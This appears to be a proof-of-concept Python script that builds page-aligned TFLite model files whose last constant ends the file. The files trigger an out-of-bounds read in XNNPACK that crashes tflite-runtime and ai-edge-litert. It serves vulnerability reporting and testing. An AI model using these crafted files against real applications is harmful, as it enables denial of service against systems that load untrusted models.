"""MEM-17: XNNPACK reads behind a constant, where it is the last of a file and the file ends with a page.

    python last_constant.py tflite_runtime    ends with 1 on tflite-runtime 2.14.0
    python last_constant.py ai_edge_litert    ends with 1 on ai-edge-litert 2.3.0

The files are such as an application maps (``model_path``): nothing of theirs is behind their last page. Up to
16 bytes behind are read (XNN_EXTRA_BYTES), so that the process ends where no other mapping happens to be.
"""

from __future__ import annotations

import sys
from typing import Any

import flatbuffers
import numpy as np
from model import PAGE, end, operators, schema, tensor

OPERATOR = schema.BuiltinOperator
INT8 = schema.TensorType.INT8


class Placed(schema.BufferT):
    """A buffer whose bytes are in the file already."""

    def __init__(self, at: int) -> None:
        super().__init__()
        self.at = at

    def Pack(self, builder: Any) -> int:  # noqa: N802 - the name of the method that it replaces
        """As the schema's own: the offset of the table."""
        schema.BufferStart(builder)
        schema.BufferAddData(builder, self.at)
        return int(schema.BufferEnd(builder))


def model(tensors: list[Any], nodes: list[Any], constants: list[Any]) -> bytes:
    """A file of whole pages that ends with the first of ``constants``.

    Constants are tensors 0, 1, ...; the next is the input, the last the output. A builder writes from the
    end: what is made first comes last. Zeros in front make the pages whole.
    """

    def built(zeros: int) -> bytes:
        builder = flatbuffers.Builder(1024)
        made, graph = schema.ModelT(), schema.SubGraphT()
        at = [builder.CreateNumpyVector(np.frombuffer(each.tobytes(), np.uint8)) for each in constants]
        at.append(builder.CreateNumpyVector(np.zeros(zeros, np.uint8)))
        made.version, made.subgraphs, made.buffers = 3, [graph], [schema.BufferT(), *map(Placed, at)]
        for number, each in enumerate(tensors):
            each.name, each.buffer = f"t{number}", number + 1 if number < len(constants) else 0
        graph.tensors, graph.inputs, graph.outputs = tensors, [len(constants)], [len(tensors) - 1]
        graph.operators = operators(made, nodes)
        builder.Finish(made.Pack(builder), b"TFL3")
        return bytes(builder.Output())

    files = (built(zeros) for zeros in range(2 * PAGE))
    return next(file for file in files if len(file) % PAGE == 0)


def quantised(scale: float, zero_point: int) -> Any:
    """Four of int8."""
    made = tensor((4,), INT8)
    made.quantization = schema.QuantizationParametersT()
    made.quantization.scale, made.quantization.zeroPoint = [scale], [zero_point]
    return made


def product() -> bytes:
    """MUL of int8 by 1, 2, 3, 4."""
    tensors = [quantised(0.0625, 0), quantised(0.05, -3), quantised(0.1, 1)]
    return model(tensors, [(OPERATOR.MUL, "MulOptions", {}, [1, 0], [2])], [np.arange(1, 5, dtype=np.int8)])


def mean() -> bytes:
    """MEAN of float32 1, 2, to which the input is added."""
    kept = {"keepDims": True}
    shape = (1, 1, 1, 2)
    tensors = [tensor(shape), tensor((2,), schema.TensorType.INT32), *(tensor(shape) for _ in range(3))]
    nodes = [
        (OPERATOR.MEAN, "ReducerOptions", kept, [0, 1], [3]),
        (OPERATOR.ADD, "AddOptions", {}, [3, 2], [4]),
    ]
    return model(tensors, nodes, [np.arange(1, 3, dtype=np.float32), np.array([1, 2], np.int32)])


if __name__ == "__main__":
    cases = {"MUL of int8 by the last constant": product(), "MEAN of the last constant": mean()}
    end(sys.argv[1], cases, way="last")
